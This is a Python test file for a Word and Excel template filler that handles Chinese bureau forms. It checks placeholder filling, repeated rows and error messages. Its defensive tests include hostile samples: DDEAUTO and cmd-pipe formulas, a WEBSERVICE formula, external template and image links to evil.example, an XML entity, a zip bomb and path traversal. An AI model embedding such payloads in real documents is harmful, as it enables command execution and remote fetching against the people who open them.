"""A bureau's own forms: names found also where they are split over runs, rows repeated, what is misspelt or could do harm refused with its place."""

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from docx import Document

from sixgate.engines.documents.template import Form, fill_form, read_form
from sixgate.kernel.refusal import Refusal

VALUES = {"项目名称": "市民卡平台升级", "项目金额": "1,280.00"}
LISTS = {"合同": [{"名称": "开发合同", "金额": "900.00"}, {"名称": "=1+1", "金额": "298.00"}], "期限": [{"名称": "终验"}]}
NAMES = {group: list(rows[0]) for group, rows in LISTS.items()}


def word(path: Path, *lines: tuple[str, ...], table: tuple[tuple[str, ...], ...] = (), foot: str = "") -> Path:
    """Store a word-processor file; each line is a tuple of runs."""
    document = Document()
    for runs in lines:
        paragraph = document.add_paragraph()
        for number, text in enumerate(runs):
            paragraph.add_run(text).bold = number == 0
    if table:
        made = document.add_table(len(table), len(table[0]))
        for row, texts in zip(made.rows, table, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text
    document.sections[0].footer.paragraphs[0].text = foot
    document.save(str(path))
    return path


def book(path: Path, **cells: str) -> Path:
    """Store a workbook of one sheet with the given cells."""
    made = openpyxl.Workbook()
    page = made.active
    assert page is not None
    page.title = "汇总"
    for place, value in cells.items():
        page[place] = value
    made.save(path)
    return path


def read(path: Path) -> Form:
    return read_form(path, list(VALUES), NAMES)


def refused(path: Path) -> tuple[str, str]:
    with pytest.raises(Refusal) as caught:
        read(path)
    return caught.value.code, str(caught.value)


def with_part(path: Path, name: str, content: bytes) -> Path:
    """Put one more part into a package, in the place of one of the same name."""
    with zipfile.ZipFile(path) as package:
        parts = {entry.filename: package.read(entry) for entry in package.infolist()}
    parts[name] = content
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for key, value in parts.items():
            package.writestr(key, value)
    return path


def test_a_name_split_over_runs_is_found_and_filled_in_the_look_of_its_first_brace(tmp_path: Path) -> None:
    path = word(tmp_path / "a", ("项目：{", "{项目", "名称}", "}，金额{{ 项目金额 }}万元"), foot="{{项目名称}}")
    assert read(path) == Form("docx", ("项目名称", "项目金额"))
    fill_form(path, tmp_path / "b", VALUES, LISTS)
    filled = Document(str(tmp_path / "b"))
    runs = filled.paragraphs[0].runs
    assert [run.text for run in runs] == ["项目：市民卡平台升级", "", "", "，金额1,280.00万元"]
    assert [run.bold for run in runs] == [True, False, False, False]
    assert filled.sections[0].footer.paragraphs[0].text == "市民卡平台升级"


def test_a_row_of_a_list_is_repeated_for_every_item_and_single_values_hold_in_it(tmp_path: Path) -> None:
    path = word(tmp_path / "a", table=(("合同", "金额", "项目"), ("{{合同.名称}}", "{{合同.金额}}", "{{项目名称}}"), ("完", "", "")))
    assert read(path).names == ("合同.名称", "合同.金额", "项目名称")
    fill_form(path, tmp_path / "b", VALUES, LISTS)
    rows = [[cell.text for cell in row.cells] for row in Document(str(tmp_path / "b")).tables[0].rows]
    assert rows == [["合同", "金额", "项目"], ["开发合同", "900.00", "市民卡平台升级"], ["=1+1", "298.00", "市民卡平台升级"], ["完", "", ""]]


def test_an_empty_list_leaves_one_row_of_dashes(tmp_path: Path) -> None:
    path = word(tmp_path / "a", table=(("{{合同.名称}}", "{{合同.金额}}"),))
    fill_form(path, tmp_path / "b", VALUES, {"合同": []})
    assert [[cell.text for cell in row.cells] for row in Document(str(tmp_path / "b")).tables[0].rows] == [["—", "—"]]


def test_braces_inside_a_value_are_text_and_not_filled_again(tmp_path: Path) -> None:
    path = word(tmp_path / "a", ("{{项目名称}}",), table=(("{{合同.名称}}",),))
    fill_form(path, tmp_path / "b", {**VALUES, "项目名称": "{{项目金额}}"}, {"合同": [{"名称": "{{项目金额}}"}]})
    filled = Document(str(tmp_path / "b"))
    assert (filled.paragraphs[0].text, filled.tables[0].cell(0, 0).text) == ("{{项目金额}}", "{{项目金额}}")


def test_a_value_of_several_lines_keeps_them(tmp_path: Path) -> None:
    path = word(tmp_path / "a", ("{{项目名称}}",))
    fill_form(path, tmp_path / "b", {"项目名称": "甲\n乙"}, {})
    assert Document(str(tmp_path / "b")).paragraphs[0].text == "甲\n乙"


def test_a_workbook_row_is_repeated_what_stands_below_moves_down_and_nothing_becomes_a_formula(tmp_path: Path) -> None:
    path = book(tmp_path / "a", A1="{{项目名称}}", A2="{{合同.名称}}", B2="{{合同.金额}}", A3="完")
    assert read(path) == Form("xlsx", ("项目名称", "合同.名称", "合同.金额"))
    fill_form(path, tmp_path / "b", VALUES, LISTS)
    page: Any = openpyxl.load_workbook(BytesIO((tmp_path / "b").read_bytes())).active
    assert [[cell.value for cell in row] for row in page.iter_rows()] == [
        ["市民卡平台升级", None], ["开发合同", "900.00"], ["'=1+1", "298.00"], ["完", None],
    ]  # fmt: skip
    assert {cell.data_type for row in page.iter_rows() for cell in row} == {"s", "n"}


@pytest.mark.parametrize(
    ("lines", "table", "code", "said"),
    [
        ((("标题",), ("{{项目名}}",)), (), "placeholder_unknown", "正文第2段：没有名为“项目名”的占位符，是不是“项目名称”？"),
        ((("{{天气}}",),), (), "placeholder_unknown", "正文第1段：没有名为“天气”的占位符。"),
        (
            (),
            (("甲", "乙"), ("{{合同.名称}}", "{{合同.金顿}}")),
            "placeholder_unknown",
            "正文第1个表格第2行第2格：没有名为“合同.金顿”的占位符，是不是“合同.金额”？",
        ),
        ((("{{合同.名称}}",),), (), "placeholder_outside_row", "正文第1段：“合同.名称”属于列表，只能写在表格的一行里。"),
        ((), (("{{合同.名称}}", "{{期限.名称}}"),), "placeholder_mixed_row", "正文第1个表格第1行第2格：一行里写了“合同”和“期限”两个列表。"),
        ((("{{项目名称}",),), (), "placeholder_broken", "正文第1段：花括号不成对，或用了全角花括号。"),
        ((("｛｛项目名称｝｝",),), (), "placeholder_broken", "正文第1段：花括号不成对，或用了全角花括号。"),
        ((("没有占位符",),), (), "template_without_names", "模板里没有占位符。"),
    ],
)
def test_what_is_wrong_is_named_with_its_place(
    tmp_path: Path, lines: tuple[tuple[str, ...], ...], table: tuple[tuple[str, ...], ...], code: str, said: str
) -> None:
    assert refused(word(tmp_path / "a", *lines, table=table)) == (code, said)


def test_a_wrong_name_in_a_workbook_is_named_with_its_sheet_and_cell(tmp_path: Path) -> None:
    path = book(tmp_path / "a", B3="{{项目金}}")
    assert refused(path) == ("placeholder_unknown", "工作表“汇总”B3：没有名为“项目金”的占位符，是不是“项目金额”？")


def test_a_formula_on_a_sheet_with_a_list_is_refused_with_its_cell(tmp_path: Path) -> None:
    path = book(tmp_path / "a", A1="{{合同.金额}}", A2="=SUM(A1:A1)")
    assert refused(path)[1] == "工作表“汇总”A2：有列表的工作表不能有公式，行数变了公式会错。"


RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
OUTSIDE = b'<Relationship Id="r9" Type="http://x/%s" Target="http://evil.example/a" TargetMode="External"/>'
FIELD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:instrText>%s</w:instrText></w:r></w:p></w:body></w:document>'
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "macro": ("word/vbaProject.bin", b"x", "含宏、外部文件或嵌入对象"),
    "embedded object": ("word/embeddings/a.bin", b"x", "含宏、外部文件或嵌入对象"),
    "alternative chunk": ("word/afchunk.dat", b"x", "含宏、外部文件或嵌入对象"),
    "template fetched from outside": ("word/_rels/settings.xml.rels", RELS % (OUTSIDE % b"attachedTemplate"), "引用了外部文件"),
    "picture fetched from outside": ("word/_rels/document.xml.rels", RELS % (OUTSIDE % b"image"), "引用了外部文件"),
    "command in a field": ("word/document.xml", FIELD % b"DDEAUTO c:\\\\x", "含会读取外部内容的域或公式"),
    "text from a file": ("word/document.xml", FIELD % b'INCLUDETEXT "a"', "含会读取外部内容的域或公式"),
    "entity": ("word/document.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "含实体声明或少见的编码"),
    "bomb": ("word/media/a.bin", b"\0" * 20_000_000, "解压后过大"),
    "path": ("../a", b"x", "部件路径异常"),
}


@pytest.mark.parametrize("what", sorted(HOSTILE))
def test_a_package_that_could_do_harm_is_refused_before_anything_opens_it(tmp_path: Path, what: str) -> None:
    name, content, why = HOSTILE[what]
    path = with_part(word(tmp_path / "a", ("{{项目名称}}",)), name, content)
    assert refused(path) == ("template_unsafe", f"模板不能用（{why}），已拒绝。")


@pytest.mark.parametrize("formula", ["=WEBSERVICE(A2)", "=cmd|'/c calc'!A0", "=[1]Sheet1!A1"])
def test_a_formula_that_reaches_outside_is_refused(tmp_path: Path, formula: str) -> None:
    assert refused(book(tmp_path / "a", A1="{{项目名称}}", B1=formula)) == ("template_unsafe", "模板不能用（含会读取外部内容的域或公式），已拒绝。")


@pytest.mark.parametrize(
    "write",
    [
        lambda path: path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old"),
        lambda path: path.write_text("{{项目名称}}"),
        lambda path: zipfile.ZipFile(path, "w").writestr("a", "b"),
    ],
    ids=["old format", "text", "other package"],
)
def test_what_is_neither_form_is_refused(tmp_path: Path, write: Callable[[Path], object]) -> None:
    write(tmp_path / "a")
    assert refused(tmp_path / "a")[0] == "not_a_template"


def test_a_file_the_child_cannot_open_is_refused_and_not_a_crash(tmp_path: Path) -> None:
    path = with_part(word(tmp_path / "a", ("{{项目名称}}",)), "word/document.xml", b"<broken")
    assert refused(path)[0] == "template_unreadable"
